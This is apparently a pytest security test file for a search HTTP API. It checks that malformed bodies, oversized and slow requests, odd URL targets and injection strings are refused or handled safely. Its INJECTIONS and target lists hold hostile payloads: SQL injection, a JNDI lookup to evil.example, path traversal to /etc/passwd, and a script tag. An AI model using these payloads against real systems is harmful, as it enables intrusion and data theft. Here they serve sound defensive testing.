"""What a hostile or broken client sends: nothing breaks, nothing leaks, others are served."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.support.serving import LINES, Served, article, serving

JSON = {"Content-Type": "application/json"}
LARGE = 1_200_000

MALFORMED = [
    b"",
    b"{",
    b'{"q": "x"',
    b'{"q": "x"}}',
    b"nonsense",
    b"\xff\xfe\xfd",
    b'{"q": "\xff"}',
    b'{"q": NaN}',
    b'{"q": "\\ud800"}',
    b'{"q": null}',
    b'{"q": ["x"]}',
    b'{"q": {"$gt": ""}}',
    b'"q"',
    b"7",
    b"null",
    b"1" * 5000,
    b"[" * 100_000,
    b'{"q":' * 50_000,
    b'{"q": "x", "q": 7}',
    b'{"q": "x", "__proto__": {"limit": 1}}',
]


@pytest.fixture(scope="module")
def strict(
    new_index: Callable[[str], str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    """Serve with small limits."""
    folder = tmp_path_factory.mktemp("strict")
    with serving(
        folder, new_index("embedded"), client_s=1.5, max_body_mb=1, connections=20
    ) as served:
        served.ok("PUT", "/v1/articles/there", json=article())
        yield served


@pytest.mark.parametrize("body", MALFORMED, ids=lambda body: repr(body[:20]))
@pytest.mark.parametrize("path", ["/v1/search", "/v1/similar", "/v1/articles", "/v1/articles/x"])
def test_malformed_bodies_are_the_clients_fault(plain: Served, path: str, body: bytes) -> None:
    method = "PUT" if path.endswith("x") else "POST"
    response = plain.http.request(method, path, content=body, headers=JSON)
    assert 400 <= response.status_code < 500, response.text
    problem = response.json()
    assert problem["status"] == response.status_code
    assert problem["detail"]
    assert "Traceback" not in response.text


@pytest.mark.parametrize("depth", [50, 500, 990, 5000])
def test_deep_metadata_is_kept_or_refused_but_never_breaks(plain: Served, depth: int) -> None:
    nested = "[" * depth + "]" * depth
    body = f'{{"text": "A ferry came back.", "meta": {{"deep": {nested}}}}}'
    response = plain.http.put(f"/v1/articles/deep-{depth}", content=body, headers=JSON)
    assert response.status_code in (201, 400, 422), response.text
    if response.status_code == 201:
        assert plain.http.get(f"/v1/articles/deep-{depth}").status_code == 200
    assert plain.http.get("/v1/export?format=articles").is_success


@pytest.mark.parametrize(
    "kind", ["", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "json"]
)
def test_other_kinds_of_body_are_refused(plain: Served, kind: str) -> None:
    headers = {"Content-Type": kind} if kind else {}
    response = plain.http.post("/v1/articles", content=b'{"text": "x"}', headers=headers)
    assert response.status_code == 415
    assert plain.http.post("/v1/search", content=b'{"q": "x"}', headers=headers).status_code == 422


def test_a_compressed_body_is_refused(plain: Served) -> None:
    headers = JSON | {"Content-Encoding": "gzip"}
    response = plain.http.post("/v1/articles", content=b"\x1f\x8b", headers=headers)
    assert response.status_code == 415


@pytest.mark.parametrize("path", ["/v1/search", "/v1/similar", "/v1/articles"])
@pytest.mark.parametrize("announced", [True, False])
def test_huge_bodies_are_cut_off(strict: Served, path: str, announced: bool) -> None:
    def chunks() -> Iterator[bytes]:
        for _ in range(20):
            yield b'{"q": "' + b"x" * 100_000

    body: Any = b"x" * LARGE if announced else chunks()
    response = strict.http.post(path, content=body, headers=JSON)
    assert response.status_code == 413
    assert response.headers["connection"] == "close"
    assert "application/x-ndjson" in response.json()["detail"]


def test_one_huge_line_does_not_stop_a_stream(strict: Served) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"id": "before", "text": "A ferry came back."}\n'
        for _ in range(15):
            yield b"x" * 100_000
        yield b'\n{"id": "after", "text": "A ferry came back."}\n'

    response = strict.http.post("/v1/articles", content=chunks(), headers=LINES)
    assert response.status_code == 200
    lines = response.text.splitlines()
    assert '"rejected"' in lines[1]
    assert "longer than" in lines[1]
    assert lines[3] == '{"counts": {"added": 2, "rejected": 1}}'


# --- slow clients, over bare sockets ---


def connect(served: Served) -> socket.socket:
    return socket.create_connection(("127.0.0.1", served.port), timeout=10)


def test_a_head_that_does_not_come_is_given_up(strict: Served) -> None:
    with connect(strict) as silent, connect(strict) as slow:
        slow.sendall(b"GET /v1/status HTTP/1.1\r\nHost: localhost\r\n")
        began = time.monotonic()
        while time.monotonic() - began < 3:  # a header line now and then, for ever
            try:
                slow.sendall(b"X-More: x\r\n")
            except OSError:
                break
            time.sleep(0.2)
        assert time.monotonic() - began < 3
        assert silent.recv(100) == b""


def test_a_head_without_end_is_given_up(strict: Served) -> None:
    with connect(strict) as client:
        try:
            for _ in range(1000):
                client.sendall(b"X" * 1000)
            answer = client.recv(1000)
        except OSError:
            return  # the server has closed
        assert answer == b"" or answer.startswith(b"HTTP/1.1 400")


def test_a_body_that_does_not_come_is_a_408(strict: Served) -> None:
    with connect(strict) as client:
        client.sendall(
            b"POST /v1/search HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Content-Length: 100\r\n\r\n{"
        )
        began = time.monotonic()
        answer = _all(client)
        assert answer.startswith(b"HTTP/1.1 408")
        assert b"urn:polywire:problem:client-slow" in answer
        assert time.monotonic() - began < 8


def test_a_client_that_takes_nothing_does_not_hold_an_export(strict: Served) -> None:
    for n in range(40):
        strict.ok("PUT", f"/v1/articles/big-{n}", json=article(text="word " * 20_000))
    clients = [connect(strict) for _ in range(2)]
    for client in clients:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.sendall(b"GET /v1/export?format=articles HTTP/1.1\r\nHost: localhost\r\n\r\n")
    time.sleep(0.5)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        if strict.http.get("/v1/export?format=csv&lang=de").status_code == 200:
            break
        time.sleep(0.2)
    else:
        pytest.fail("the exports are held for ever")
    for client in clients:
        client.close()


def test_pipelined_and_broken_requests_do_not_disturb_others(strict: Served) -> None:
    with connect(strict) as client:
        request = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
        client.sendall(request * 3 + b"BROKEN\x00\r\n\r\n")
        answer = _all(client)
    assert answer.count(b"HTTP/1.1 200") == 3
    assert strict.http.get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "target",
    [
        b"/v1/search?q=%FF%FE",
        b"/v1/search?q=%00",
        b"/v1/search?q=%ED%A0%80",
        b"/v1/search?q=a&q=b",
        b"/v1/search?limit=" + b"9" * 5000 + b"&q=x",
        b"/v1/articles/%FF",
        b"/v1/articles/%00",
        b"/v1/articles/" + b"x" * 5000,
        b"/v1/articles/../../../../etc/passwd",
        b"/v1/articles/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        b"//v1/status",
        b"/v1/status/",
        b"/v1/similar/%ED%A0%80",
        b"/\xe9",
    ],
)
def test_odd_targets_are_answered_soundly(strict: Served, target: bytes) -> None:
    with connect(strict) as client:
        head = b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
        client.sendall(head)
        answer = _all(client)
    assert answer[9:12] in (b"200", b"400", b"404", b"422"), answer[:500]
    assert b"root:" not in answer


INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE articles; --",
    "id' OR 'a'='a",
    '{"match_all": {}}',
    '"}}, {"query": {"match_all": {}}}',
    "*:*",
    "_exists_:id",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a\x00b",
    "%' ESCAPE '\\",
    "\\",
    "🙂" * 50,
    "a AND (b OR",
    "lang:de' OR lang:en",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_is_injected(desk: Served, text: str) -> None:
    """Filters with such values match nothing but themselves, in questions they are words."""
    everything = desk.ok("GET", "/v1/facets")["total"]
    for name in ("source", "section", "tag"):
        response = desk.http.post("/v1/search", json={"q": "flood", name: [text]})
        assert response.status_code == 200, response.text
        assert response.json()["hits"] == []
    asked = desk.http.get("/v1/facets", params={"q": text, "mode": "lexical"})
    assert asked.status_code in (200, 400)
    path = f"/v1/articles/{quote(text, safe='')}"
    assert desk.http.get(path).status_code == 404
    assert desk.http.delete(path).status_code == 404
    assert desk.ok("GET", "/v1/facets")["total"] == everything


@pytest.mark.parametrize("text", [text for text in INJECTIONS if "," not in text])
def test_such_values_are_kept_as_they_are(desk: Served, text: str) -> None:
    sent = article(id="injected", source=text, section=text, tags=[text], title=text)
    put = desk.http.put("/v1/articles/injected", json=sent)
    assert put.status_code in (200, 201, 422), put.text
    if put.status_code != 422:
        kept = desk.ok("GET", "/v1/articles/injected")
        if "<script>" in text:  # markup is no text of a tag: nothing of it is stored
            assert kept["tags"] == []
            desk.http.delete("/v1/articles/injected")
            return
        found = desk.ok("POST", "/v1/search", json={"sort": "date", "tag": kept["tags"]})
        assert [hit["id"] for hit in found["hits"]] == ["injected"]
    desk.http.delete("/v1/articles/injected")


def test_secrets_stay_out_of_logs_and_problems(
    new_index: Callable[[str], str],
    folder: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    from search.api.access.keys import KeyFolder, KeyScope

    _, token = KeyFolder(folder / "keys").create("desk", [KeyScope.ADMIN])
    with serving(folder, new_index("embedded"), access_log=True) as served, caplog.at_level(10):
        headers = {"Authorization": f"Bearer {token}"}
        served.http.get("/v1/search?q=confidential", headers=headers)
        served.http.get("/v1/articles/x", headers={"Authorization": f"Bearer {token}x"})
        metrics = served.http.get("/metrics", headers=headers).text
    secret = token.split("_", 2)[2]
    ours = [record for record in caplog.records if record.name.startswith(("search", "uvicorn"))]
    logged = "".join(f"{record.getMessage()} {vars(record)}" for record in ours)
    assert "/v1/articles/x" in logged
    assert secret not in logged
    assert "confidential" not in logged
    assert secret not in metrics


def _all(client: socket.socket) -> bytes:
    answer = b""
    client.settimeout(10)
    try:
        while chunk := client.recv(65_536):
            answer += chunk
            if answer.count(b"HTTP/1.1 200") >= 3 and answer.endswith(b"}"):
                break
    except OSError:
        pass
    return answer
